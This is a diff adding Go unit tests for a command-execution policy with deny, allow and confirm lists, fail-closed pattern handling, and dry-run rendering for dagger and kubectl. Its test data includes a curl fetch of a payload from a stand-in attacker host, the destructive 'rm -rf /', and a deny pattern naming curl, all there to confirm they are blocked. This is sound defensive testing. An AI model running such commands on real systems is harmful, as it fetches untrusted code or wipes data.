@@ -0,0 +1,143 @@
+package executor
+
+import (
+	"context"
+	"errors"
+	"strings"
+	"testing"
+
+	"github.com/NicabarNimble/patina/modules/errdefs"
+)
+
+func TestCommandPolicyDeny(t *testing.T) {
+	policy := CommandPolicy{Deny: []string{`rm\s+-rf\s+/`, `\bcurl\b`}}
+
+	tests := []struct {
+		command []string
+		wantErr bool
+	}{
+		{[]string{"rm", "-rf", "/"}, true},
+		{[]string{"curl", "http://evil.example/payload.sh"}, true},
+		{[]string{"go", "test", "./..."}, false},
+		{[]string{"rm", "build.log"}, false},
+	}
+	for _, tt := range tests {
+		err := policy.Check(tt.command)
+		if (err != nil) != tt.wantErr {
+			t.Errorf("Check(%v) err = %v, wantErr %v", tt.command, err, tt.wantErr)
+		}
+		if err != nil && !errdefs.IsForbidden(err) {
+			t.Errorf("Check(%v) = %v, want forbidden", tt.command, err)
+		}
+	}
+}
+
+func TestCommandPolicyAllow(t *testing.T) {
+	policy := CommandPolicy{Allow: []string{`^go\s`, `^make\b`}}
+
+	if err := policy.Check([]string{"go", "build", "./..."}); err != nil {
+		t.Errorf("allowed command rejected: %v", err)
+	}
+	err := policy.Check([]string{"python", "-c", "print(1)"})
+	if !errdefs.IsForbidden(err) {
+		t.Errorf("unlisted command err = %v, want forbidden", err)
+	}
+}
+
+func TestCommandPolicyDenyWinsOverAllow(t *testing.T) {
+	policy := CommandPolicy{
+		Allow: []string{`.*`},
+		Deny:  []string{`rm\s+-rf\s+/`},
+	}
+	if err := policy.Check([]string{"rm", "-rf", "/"}); !errdefs.IsForbidden(err) {
+		t.Errorf("err = %v, want forbidden", err)
+	}
+}
+
+func TestCommandPolicyBadPatternFailsClosed(t *testing.T) {
+	policy := CommandPolicy{Deny: []string{`[unclosed`}}
+	if err := policy.Check([]string{"echo", "hi"}); !errdefs.IsForbidden(err) {
+		t.Errorf("err = %v, want forbidden for unparseable pattern", err)
+	}
+}
+
+func TestCommandPolicyConfirm(t *testing.T) {
+	policy := CommandPolicy{Confirm: []string{`git\s+push\s+.*\bmain\b`, `terraform\s+apply`}}
+
+	err := policy.ConfirmCheck([]string{"git", "push", "origin", "main"}, false)
+	if !errdefs.IsConflict(err) {
+		t.Errorf("unconfirmed err = %v, want conflict", err)
+	}
+	if err := policy.ConfirmCheck([]string{"git", "push", "origin", "main"}, true); err != nil {
+		t.Errorf("confirmed command rejected: %v", err)
+	}
+	if err := policy.ConfirmCheck([]string{"git", "status"}, false); err != nil {
+		t.Errorf("unlisted command rejected: %v", err)
+	}
+}
+
+func TestExecuteEnforcesConfirmList(t *testing.T) {
+	e := New()
+	e.Bin = fakeBin(t, "echo pushed")
+	e.SetCommandPolicy(CommandPolicy{Confirm: []string{`terraform\s+apply`}})
+
+	req := Request{Image: "alpine:3.20", Command: []string{"terraform", "apply"}}
+	if _, err := e.Execute(context.Background(), req); !errdefs.IsConflict(err) {
+		t.Errorf("unconfirmed err = %v, want conflict", err)
+	}
+
+	req.Confirmed = true
+	result, err := e.Execute(context.Background(), req)
+	if err != nil {
+		t.Fatalf("confirmed execute: %v", err)
+	}
+	if strings.TrimSpace(result.Stdout) != "pushed" {
+		t.Errorf("stdout = %q, want pushed", result.Stdout)
+	}
+}
+
+func TestExecuteDryRun(t *testing.T) {
+	e := New()
+	result, err := e.Execute(context.Background(), Request{
+		Image:   "golang:1.21",
+		Command: []string{"go", "version"},
+		DryRun:  true,
+	})
+	if err != nil {
+		t.Fatalf("Execute: %v", err)
+	}
+	if !strings.HasPrefix(result.Stdout, "dagger core container from") {
+		t.Errorf("Stdout = %q, want rendered dagger invocation", result.Stdout)
+	}
+	if !strings.Contains(result.Stdout, "--args=go,version") {
+		t.Errorf("Stdout = %q, want the command rendered", result.Stdout)
+	}
+}
+
+func TestExecuteDryRunStillChecksPolicy(t *testing.T) {
+	e := New()
+	e.SetCommandPolicy(CommandPolicy{Deny: []string{`rm\s+-rf\s+/`}})
+	_, err := e.Execute(context.Background(), Request{
+		Image:   "golang:1.21",
+		Command: []string{"rm", "-rf", "/"},
+		DryRun:  true,
+	})
+	if !errors.Is(err, errdefs.ErrForbidden) {
+		t.Errorf("err = %v, want forbidden", err)
+	}
+}
+
+func TestKubeDryRun(t *testing.T) {
+	e := NewKube("patina")
+	result, err := e.Execute(context.Background(), Request{
+		Pod:     "patina-demo",
+		Command: []string{"go", "version"},
+		DryRun:  true,
+	})
+	if err != nil {
+		t.Fatalf("Execute: %v", err)
+	}
+	if !strings.HasPrefix(result.Stdout, "kubectl exec -n patina patina-demo") {
+		t.Errorf("Stdout = %q, want rendered kubectl invocation", result.Stdout)
+	}
+}